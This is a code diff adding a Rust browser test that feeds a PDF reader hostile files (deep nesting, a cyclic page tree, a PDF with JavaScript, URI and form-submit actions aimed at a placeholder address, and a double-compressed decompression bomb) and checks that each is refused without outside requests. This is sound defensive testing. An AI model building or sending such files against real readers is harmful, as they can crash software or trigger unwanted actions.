@@ -1,10 +1,13 @@
 //! PDF files in the library: read by a program of its own, which is fetched for the first of them and not before.
 
+use std::io::Write as _;
 use std::path::PathBuf;
 
 use anyhow::Result;
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
+use flate2::Compression;
+use flate2::write::ZlibEncoder;
 use serde_json::json;
 
 use super::{NEWS, back, open, open_file, paste, read};
@@ -129,4 +132,71 @@ pub(super) fn refused(page: &Page) -> Result<()> {
     page.until("a reason", &format!("/“ferry.pdf” cannot be read: the reader of PDF files could not be started/.test({MESSAGE})"))?;
     paste(page, "text/plain", NEWS)?;
     read(page)
+}
+
+/// Files that are made to harm: each is refused with a reason, asks no other host for anything, and the next file is read.
+pub(super) fn hostile(page: &Page) -> Result<()> {
+    open(page)?;
+    page.run("window.faults = []; for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => faults.push(name); addEventListener('securitypolicyviolation', (event) => faults.push(event.blockedURI)); addEventListener('error', (event) => /^ResizeObserver loop/.test(event.message) || faults.push(event.message));")?;
+    let raw = |body: &str| format!("%PDF-1.7\n{body}").into_bytes();
+    let nested = format!(
+        "1 0 obj {} endobj trailer << /Root 1 0 R >>",
+        "[".repeat(200_000)
+    );
+    let ring = "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [3 0 R] >> endobj 3 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] >> endobj trailer << /Root 1 0 R >>";
+    let acts = "1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /URI /URI (http://192.0.2.1/) >> >> /AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >> >> endobj
+2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
+3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj
+4 0 obj << /F << /FS /URL /F (http://192.0.2.1/stream) >> /Length 0 >>
+stream
+
+endstream endobj
+trailer << /Root 1 0 R >>";
+    for (name, bytes) in [
+        ("nested.pdf", raw(&nested)),
+        ("ring.pdf", raw(ring)),
+        ("acts.pdf", raw(acts)),
+        ("bomb.pdf", bomb()?),
+    ] {
+        drop_bytes(page, name, &bytes)?;
+        page.until(
+            name,
+            &format!("/“{name}” (cannot be read|holds)|There is no text to read in “{name}”/.test({MESSAGE})"),
+        )?;
+    }
+    page.expect("what was executed, asked for or broken", "[faults, performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => new URL(name).origin !== location.origin)]", &json!([[], []]))?;
+    drop_bytes(page, "ferry.pdf", FERRY)?;
+    read(page)?;
+    page.expect(
+        "the next file is read",
+        "document.querySelector('#article h1').textContent",
+        &json!("The ferry is late again"),
+    )
+}
+
+/// A page of half a gigabyte of spaces, packed twice into a few hundred bytes.
+fn bomb() -> Result<Vec<u8>> {
+    let mut packed = ZlibEncoder::new(
+        ZlibEncoder::new(Vec::new(), Compression::best()),
+        Compression::fast(),
+    );
+    let spaces = vec![b' '; 1 << 20];
+    for _ in 0..512 {
+        packed.write_all(&spaces)?;
+    }
+    let content = packed.finish()?.finish()?;
+    let mut file = format!(
+        "%PDF-1.7
+1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
+2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
+3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj
+4 0 obj << /Filter [/FlateDecode /FlateDecode] /Length {} >>
+stream
+",
+        content.len()
+    )
+    .into_bytes();
+    file.extend(content);
+    file.extend(b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n");
+    Ok(file)
 }
